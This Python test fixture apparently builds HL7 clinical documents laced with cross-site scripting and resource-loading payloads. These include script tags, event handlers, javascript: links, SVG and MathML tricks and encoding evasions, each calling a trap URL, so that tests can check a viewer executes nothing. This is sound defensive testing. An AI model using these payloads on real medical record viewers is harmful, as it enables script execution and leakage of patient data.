"""Clinical documents that try to run or to load something where they are looked at. Each would call at a trap.

What is known to have worked against the stylesheet that HL7 once gave away (CVE-2014-3861, -3862, -5452), and more.
"""

from tests.support.documents import OID, document

WORD = "clinical-word"
"""Stands in every one of these documents where it must be shown."""
_HTML = "http://www.w3.org/1999/xhtml"
_SVG = "http://www.w3.org/2000/svg"
_IDS = f'<id root="{OID}" extension="mrn-A"/>'


def narrative(inner: str, *, title: str = "Findings", prolog: str = "", before: str = "") -> bytes:
    """An own document of patient A with one section."""
    section = f"<component><section><title>{title}</title><text>{WORD} {inner}</text></section></component>"
    return document(
        ids=_IDS, prolog=prolog, before=before, body=f"<structuredBody>{section}</structuredBody>"
    )


def unstructured(text: str, media_type: str, more: str = "") -> bytes:
    """A document that is a piece of text, under some type."""
    body = f'<nonXMLBody><text mediaType="{media_type}"{more}>{text}</text></nonXMLBody>'
    return document(ids=_IDS, before=f"<title>{WORD}</title>", body=body)


def injected(trap: str) -> dict[str, bytes]:
    """By name. trap is the URL that nothing may call; window.ran is what nothing may set."""
    run = f"window.ran=1;alert(1);new Image().src='{trap}/run'"
    quoted = run.replace("'", "&quot;")
    named = (
        f"<author><assignedAuthor><assignedPerson><name>&lt;img src=x onerror={quoted}&gt;</name>"
        "</assignedPerson></assignedAuthor></author>"
    )
    return {
        "stylesheet": narrative("", prolog=f'<?xml-stylesheet type="text/xsl" href="{trap}/x.xsl"?>'),
        "stylesheet-css": narrative("", prolog=f'<?xml-stylesheet type="text/css" href="{trap}/x.css"?>'),
        "stylesheet-javascript": narrative(
            "", prolog=f'<?xml-stylesheet type="text/xsl" href="javascript:{quoted}"?>'
        ),
        "script": narrative(f"<script>{run}</script>"),
        "script-source": narrative(f'<script src="{trap}/x.js"/>'),
        "script-html": narrative(f'<h:script xmlns:h="{_HTML}">{run}</h:script>'),
        "script-cdata": narrative(f"<![CDATA[<script>{run}</script>]]>"),
        "script-in-title": narrative("", title=f"&lt;/title&gt;&lt;script&gt;{run}&lt;/script&gt;"),
        "script-in-style": narrative(f"&lt;/style&gt;&lt;script&gt;{run}&lt;/script&gt;"),
        "on-attribute": narrative(
            f'<table onmouseover="{quoted}"><tbody><tr><td onclick="{quoted}">x</td></tr></tbody></table>'
        ),
        "on-load": narrative(
            f'<content onload="{quoted}" onerror="{quoted}" onfocus="{quoted}" autofocus="1" tabindex="1">x</content>'
        ),
        "quotes-in-attributes": narrative(f"<td colspan='1\"&gt;&lt;script&gt;{quoted}&lt;/script&gt;'>x</td>"),
        "quotes-in-table": narrative(
            f"<table border='1\" onmouseover=\"{quoted}'>"
            f"<tbody><tr><td rowspan='2 onclick={quoted}'>x</td></tr></tbody></table>"
        ),
        "spans": narrative(
            '<table><tbody><tr><td colspan="999999999" rowspan="65534">x</td><td colspan="-1">y</td></tr>'
            '</tbody></table>'
        ),
        "style-expression": narrative(f'<content styleCode="Bold; width:expression({quoted})">x</content>'),
        "style-url": narrative(
            f'<content styleCode="background:url({trap}/s)" style="background:url({trap}/s)">x</content>'
        ),
        "style-element": narrative(f"<style>@import url({trap}/s);</style>"),
        "link-javascript": narrative(f'<linkHtml href="javascript:{quoted}">press</linkHtml>'),
        "link-entities": narrative(f'<linkHtml href="&#106;ava&#9;script&#58;{quoted}">press</linkHtml>'),
        "link-data": narrative(
            '<linkHtml href="data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;">press</linkHtml>'
        ),
        "link-blank": narrative(f'<linkHtml href=" &#10;javascript:{quoted}">press</linkHtml>'),
        "link-vbscript": narrative('<linkHtml href="vbscript:msgbox(1)">press</linkHtml>'),
        "multimedia": narrative(f'<renderMultiMedia referencedObject="{trap}/m" src="{trap}/m"/>'),
        "image": narrative(f'<img src="{trap}/i" onerror="{quoted}"/>'),
        "iframe": narrative(f'<iframe src="{trap}/f" srcdoc="&lt;script&gt;{quoted}&lt;/script&gt;"/>'),
        "object": narrative(f'<object data="{trap}/o"><embed src="{trap}/e"/></object>'),
        "svg": narrative(
            f'<svg xmlns="{_SVG}" onload="{quoted}"><script>{run}</script><image href="{trap}/i"/></svg>'
        ),
        "svg-in-narrative": narrative(f'<svg onload="{quoted}"><use href="{trap}/u#x"/></svg>'),
        "math": narrative(
            f'<math><mtext><table><mglyph><style><img src="{trap}" onerror="{quoted}"/></style></mglyph>'
            f'</table></mtext></math>'
        ),
        "html-image": narrative(f'<h:img xmlns:h="{_HTML}" src="{trap}/i" onerror="{quoted}"/>'),
        "meta-refresh": narrative(f'<meta http-equiv="refresh" content="0;url={trap}/r"/>'),
        "base": narrative(f'<base href="{trap}/"/><linkHtml href="x">press</linkHtml>'),
        "form": narrative(f'<form action="{trap}/f"><input type="submit" autofocus="1" onfocus="{quoted}"/></form>'),
        "escaped-markup": narrative(f"&lt;img src=x onerror={quoted}&gt;&lt;script&gt;{run}&lt;/script&gt;"),
        "numeric-markup": narrative(f"&#60;script&#62;{run}&#x3c;/script&#x3e;"),
        "twice-escaped": narrative(f"&amp;lt;script&amp;gt;{run}&amp;lt;/script&amp;gt;"),
        "full-width": narrative(f"\uff1cscript\uff1e{run}\uff1c/script\uff1e"),
        "utf-7": narrative(f"+ADw-script+AD4-{run}+ADw-/script+AD4-"),
        "overlong-in-unicode": narrative(f"\u02bcscript\u203a{run}\u2039/script\u203a \u2028{run}\u2029"),
        "turned-round": narrative(f"\u202e{run}\u202c \u2066{run}\u2069"),
        "comment-in-tags": narrative(f"&lt;scr<!-- -->ipt&gt;{run}&lt;/scr<!-- -->ipt&gt;"),
        "comment-end": narrative(f"--&gt;&lt;script&gt;{run}&lt;/script&gt;&lt;!--"),
        "name-of-an-element": narrative(f"<x.onload_alert>{run}</x.onload_alert>"),
        "heading": narrative("", title=f"&lt;/h2&gt;&lt;img src={trap}/h onerror={quoted}&gt;"),
        "author": narrative("", before=named),
        "language": narrative("", before=f'<languageCode code="en&quot; onload=&quot;{quoted}"/>'),
        "document-title": narrative("", before=f"<title>&lt;/title&gt;&lt;script&gt;{run}&lt;/script&gt;</title>"),
        "display-name": document(
            ids=_IDS,
            body=(
                f'<structuredBody><component><section><code displayName="&lt;script&gt;{quoted}&lt;/script&gt;"/>'
                f"<text>{WORD}</text></section></component></structuredBody>"
            ),
        ),
        "plain-text": unstructured(f"{WORD} &lt;/pre&gt;&lt;script&gt;{run}&lt;/script&gt;", "text/plain"),
        "html-body": unstructured(f"&lt;script&gt;{run}&lt;/script&gt;", "text/html"),
        "media-type": unstructured("QUJD", f'text/html&quot;&gt;&lt;script&gt;{quoted}', ' representation="B64"'),
        "reference-body": document(
            ids=_IDS,
            before=f"<title>{WORD}</title>",
            body=f'<nonXMLBody><text mediaType="text/html"><reference value="{trap}/body"/></text></nonXMLBody>',
        ),
    }  # fmt: skip
